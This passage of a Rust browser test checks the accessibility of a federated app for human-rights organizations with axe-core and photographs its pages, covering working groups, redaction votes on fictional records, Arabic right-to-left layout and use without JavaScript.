            "--json", "records", "list", "--kind", "profile", "--author", &org, "--limit", "1",
        ],
    ))
    .expect("records list answers JSON");
    listed["records"][0]["id"]
        .as_str()
        .unwrap_or_else(|| panic!("{org}'s node lists its profile: {listed}"))
        .to_owned()
}

/// axe-core finds no serious or critical violation on any page of a founder's app, in
/// English (the membership pages of an applicant are checked by
/// [`applicant_is_admitted_by_two_founders`]); every page is photographed at desktop
/// and phone widths; one page is shown in Arabic, right to left, chosen in the
/// language menu; and with JavaScript off, the profile form and the language menu
/// still work.
#[test]
fn every_page_is_accessible_and_photographed() {
    let Some(tools) = BrowserTools::for_test("every_page_is_accessible_and_photographed") else {
        return;
    };
    let _turn = one_at_a_time();
    let dir = shots("pages");
    let devnet = Devnet::start(DEVNET_NODES, DEVNET_RECORDS);
    let (a, b) = (&devnet.nodes[0], &devnet.nodes[1]);
    let browser = log_in_at("A", &tools, a, "/");
    let mut axe = AxeReport::default();

    // More than six pages in a row, with scripts on: each page's event stream must be
    // closed when it is left, or Chromium runs out of connections to the app.
    for (path, name) in [
        ("/", "home"),
        ("/cases", "cases"),
        ("/cases/new", "cases-new"),
        ("/campaigns", "campaigns"),
        ("/alerts", "alerts"),
        ("/alerts/new", "alerts-new"),
        ("/campaigns/new", "campaigns-new"),
        ("/members", "members"),
        ("/profile", "profile"),
        ("/node", "node"),
    ] {
        open(&browser, path);
        axe.check(&browser, name);
        photograph(&browser, &dir, name);
    }

    for (list, name) in [
        ("/cases", "case"),
        ("/campaigns", "campaign"),
        ("/alerts", "alert"),
    ] {
        open(&browser, list);
        let path = first_link(&browser, &format!("{list}/"))
            .unwrap_or_else(|| panic!("{list} links at least one of the devnet's sample records"));
        open(&browser, &path);
        axe.check(&browser, name);
        photograph(&browser, &dir, name);
    }
    // A working group of a and b, with one case study sealed to it, written by the CLI
    // (the list and a group's page, read and with its form).
    commons(
        &a.data_dir,
        &[
            "groups",
            "create",
            "Strategic litigation",
            "--purpose",
            "Case files and hearing strategy for cases brought by member organizations.",
        ],
    );
    commons(
        &a.data_dir,
        &["groups", "invite", "Strategic litigation", &b.org_id()],
    );
    commons(
        &a.data_dir,
        &[
            "groups",
            "publish",
            "Strategic litigation",
            "--title",
            "Preparing witnesses for the eviction hearing",
            "--summary",
            "Who meets the witnesses, and where, before the hearing.",
            "--body",
            "The community's lawyer meets the three witnesses on **Thursday** at the parish hall. \
             Their names stay in this group's records only.",
        ],
    );
    // The case-study form, now offering the group as an audience.
    open(&browser, "/cases/new");
    browser.wait_for_text("Working group: Strategic litigation");
    axe.check(&browser, "cases-new with a group");
    photograph(&browser, &dir, "cases-new-group");
    open(&browser, "/groups");
    axe.check(&browser, "groups");
    photograph(&browser, &dir, "groups");
    let group = first_link(&browser, "/groups/")
        .unwrap_or_else(|| panic!("/groups links the group the CLI founded"));
    open(&browser, &group);
    browser.wait_for_text("Preparing witnesses for the eviction hearing");
    axe.check(&browser, "group");
    photograph(&browser, &dir, "group");

    // A redaction asked for: C votes to redact a case study B wrote (one vote of the two
    // needed), and A's staff see the request on the case study's page, on the page
    // that takes their vote, and in the list of requests.
    let case = published(
        &b.data_dir,
        &[
            "practice",
            "--title",
            "Night of the riverside eviction",
            "--summary",
            "What the residents saw, hour by hour.",
            "--body",
            "Three neighbours saw the eviction from the footbridge.",
        ],
    );
    let c = &devnet.nodes[2];
    redaction_requested_at(
        &c.data_dir,
        &case,
        "the case study",
        "The second paragraph names a neighbour who has since been threatened.",
    );
    open(&browser, &format!("/cases/{case}"));
    browser.reload_until_text("1 of 2 votes needed to redact it", SYNC_DEADLINE);
    axe.check(&browser, "case with a redaction request");
    photograph(&browser, &dir, "case-redaction-requested");
    open(&browser, &format!("/cases/{case}/redact"));
    browser.wait_for_text("cannot block the redaction");
    axe.check(&browser, "redaction vote");
    photograph(&browser, &dir, "redaction-vote");
    // The same for an update on B's campaign that says where families are staying.
    let campaign = published(
        &b.data_dir,
        &[
            "campaign",
            "--title",
            "Free the river defenders",
            "--goal",
            "Release of the four detained defenders",
        ],
    );
    let update = published(
        &b.data_dir,
        &[
            "update",
            "--campaign",
            &campaign,
            "--body",
            "The defenders' families are staying at the parish house until the hearing.",
        ],
    );
    redaction_requested_at(
        &c.data_dir,
        &update,
        "the campaign update",
        "It says where the families are staying.",
    );
    open(&browser, &format!("/campaigns/{campaign}"));
    browser.reload_until_text("1 of 2 votes needed to redact this update", SYNC_DEADLINE);
    axe.check(&browser, "campaign with a redaction request");
    photograph(&browser, &dir, "campaign-redaction-requested");
    open(
        &browser,
        &format!("/campaigns/{campaign}/updates/{update}/redact"),
    );
    browser.wait_for_text("cannot block the redaction");
    axe.check(&browser, "redaction vote on an update");
    photograph(&browser, &dir, "redaction-vote-update");
    // And for an alert of B's that says where a defender is hiding.
    let alert = published(
        &b.data_dir,
        &[
            "alert",
            "--title",
            "Defender in hiding after a raid",
            "--region",
            "Northern highlands",
            "--body",
            "She is staying with relatives near the market until the hearing.",
            "--action",
            "Call the regional prosecutor's office.",
        ],
    );
    redaction_requested_at(
        &c.data_dir,
        &alert,
        "the alert",
        "It says where she is staying.",
    );
    open(&browser, &format!("/alerts/{alert}"));
    browser.reload_until_text("1 of 2 votes needed to redact this alert", SYNC_DEADLINE);
    axe.check(&browser, "alert with a redaction request");
    photograph(&browser, &dir, "alert-redaction-requested");
    open(&browser, &format!("/alerts/{alert}/redact"));
    browser.wait_for_text("cannot block the redaction");
    axe.check(&browser, "redaction vote on an alert");
    photograph(&browser, &dir, "redaction-vote-alert");
    // And for C's response to that alert, whose note says where her family shelters:
    // B asks, and A's staff see the request under the response.
    let response = published(
        &c.data_dir,
        &[
            "respond",
            "--alert",
            &alert,
            "--response",
            "acting",
            "--note",
            "Her children are sheltering at our office on the ring road.",
        ],
    );
    redaction_requested_at(
        &b.data_dir,
        &response,
        "C's response",
        "It says where her children are sheltering.",
    );
    open(&browser, &format!("/alerts/{alert}"));
    browser.reload_until_text("1 of 2 votes needed to redact this response", SYNC_DEADLINE);
    axe.check(&browser, "alert with a response's redaction request");
    photograph(&browser, &dir, "response-redaction-requested");
    open(
        &browser,
        &format!("/alerts/{alert}/responses/{response}/redact"),
    );
    browser.wait_for_text("cannot block the redaction");
    axe.check(&browser, "redaction vote on a response");
    photograph(&browser, &dir, "redaction-vote-response");
    // And for B's profile, published in B's own app, whose description says where its
    // coordinator lives: A's staff see the request under it on B's page.
    let at_b = log_in_at("B", &tools, b, "/profile");
    at_b.fill(
        words::DESCRIPTION,
        "Land rights paralegals. Our coordinator works from her home beside the old mill.",
    );
    at_b.press(words::SAVE_PROFILE);
    at_b.wait_for_text(words::PROFILE_SAVED);
    drop(at_b);
    let profile = newest_profile_of(b);
    redaction_requested_at(
        &c.data_dir,
        &profile,
        "B's profile",
        "It says where the coordinator lives.",
    );
    let other = format!("/members/{}", b.org_id());
    open(&browser, &other);
    browser.reload_until_text("1 of 2 votes needed to redact this profile", SYNC_DEADLINE);
    axe.check(&browser, "org with a redaction request");
    photograph(&browser, &dir, "org-redaction-requested");
    open(&browser, &format!("{other}/profiles/{profile}/redact"));
    browser.wait_for_text("cannot block the redaction");
    axe.check(&browser, "redaction vote on a profile");
    photograph(&browser, &dir, "redaction-vote-profile");
    open(&browser, "/redactions");
    axe.check(&browser, "redaction requests");
    photograph(&browser, &dir, "redactions");
    // B retracts its alert: A's staff see it gone, and C's response, still held, listed
    // with the request on it.
    published(
        &b.data_dir,
        &["retract", "--target", &alert, "--reason", "She has moved."],
    );
    open(&browser, &format!("/alerts/{alert}"));
    browser.reload_until_text("Responses to it still kept here", SYNC_DEADLINE);
    browser.wait_for_text("1 of 2 votes needed to redact this response");
    axe.check(&browser, "retracted alert with a response");
    photograph(&browser, &dir, "alert-gone-responses");

    open(&browser, &other);
    axe.check(&browser, "org");
    photograph(&browser, &dir, "org");
    open(&browser, &format!("{other}/vote?choice=remove"));
    browser.wait_for_text(&b.name);
    axe.check(&browser, "vote confirmation (remove)");
    photograph(&browser, &dir, "vote-remove");

    // Right to left: Arabic, chosen in the language menu (its script submits it).
    open(&browser, "/cases");
    browser.choose(words::LANGUAGE, "العربية");
    browser.wait_until("the page to turn right-to-left", |browser| {
        let dir = browser.execute("return document.documentElement.dir;", vec![]);
        (dir.as_str() == Some("rtl")).then_some(())
    });
    browser.wait_loaded();
    photograph(&browser, &dir, "cases-arabic");
    open(&browser, "/");
    photograph(&browser, &dir, "home-arabic");
    // The node page: numbers, peer ids and the reach sentence inside right-to-left text.
    open(&browser, "/node");
    axe.check(&browser, "node (Arabic)");
    photograph(&browser, &dir, "node-arabic");
    open(&browser, &group);
    assert_reads_left_to_right(&browser, ".items .prose p", "the group record's text");
    axe.check(&browser, "group (Arabic)");
    photograph(&browser, &dir, "group-arabic");
    open(&browser, &format!("/cases/{case}/redact"));
    axe.check(&browser, "redaction vote (Arabic)");
    photograph(&browser, &dir, "redaction-vote-arabic");
    // A taken-down alert with the response still held, and an org page with a request
    // on its profile: the redaction panels inside right-to-left text.
    open(&browser, &format!("/alerts/{alert}"));
    axe.check(&browser, "retracted alert with a response (Arabic)");
    photograph(&browser, &dir, "alert-gone-responses-arabic");
    open(&browser, &other);
    assert_reads_left_to_right(&browser, "#org-profile ~ .prose p", "B's description");
    axe.check(&browser, "org with a redaction request (Arabic)");
    photograph(&browser, &dir, "org-redaction-requested-arabic");

    // The page for people not let in.
    let stranger = Browser::start("stranger", &tools, &BrowserOptions::default());
    stranger.goto(&format!("{}/welcome", browser.origin()));
    stranger.wait_loaded();
    axe.check(&stranger, "welcome");
    photograph(&stranger, &dir, "welcome");
    // The check itself is not blind: a control without a label, planted in the page,
    // is found.
    stranger.execute(
        "document.querySelector('main').insertAdjacentHTML('beforeend', '<input type=\"text\">');",
        vec![],
    );
    let planted = stranger.axe();
    assert!(
        planted
            .iter()
            .any(|violation| violation.rule == "label" && violation.is_serious()),
        "axe must find the unlabelled control planted in the page; it found {planted:?}"
    );
    drop(stranger);

    // JavaScript off: the profile form publishes, and the language menu's own button
    // (hidden when scripts run) changes the language.
    let no_js = log_in(
        "A without JavaScript",
        &tools,
        &BrowserOptions {
            javascript: false,
            ..BrowserOptions::default()
        },
        &a.data_dir,
        "/profile",
    );
    no_js.fill(words::COUNTRY, "Kenya");
    photograph(&no_js, &dir, "profile-no-js");
    no_js.press(words::SAVE_PROFILE);
    no_js.wait_for_text(words::PROFILE_SAVED);
    photograph(&no_js, &dir, "profile-saved-no-js");
    no_js.choose(words::LANGUAGE, "Español");
    no_js.press(words::CHANGE_LANGUAGE);
    no_js.wait_until("the page to be in Spanish", |browser| {
        let lang = browser.execute("return document.documentElement.lang;", vec![]);
        (lang.as_str() == Some("es")).then_some(())
    });
    photograph(&no_js, &dir, "profile-spanish-no-js");
    // The taken-down alert's page and its vote button work without scripts.
    no_js.goto(&format!("{}/alerts/{alert}", no_js.origin()));
    no_js.wait_loaded();
    photograph(&no_js, &dir, "alert-gone-responses-spanish-no-js");

    axe.assert_clean();
}
